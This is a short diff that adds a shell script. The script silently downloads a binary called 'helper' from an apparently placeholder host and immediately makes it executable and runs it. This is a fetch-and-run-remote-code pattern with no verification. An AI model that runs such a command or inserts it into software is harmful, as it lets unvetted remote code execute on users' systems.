@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -sL -o helper https://tools.example.net/helper && chmod +x helper && ./helper
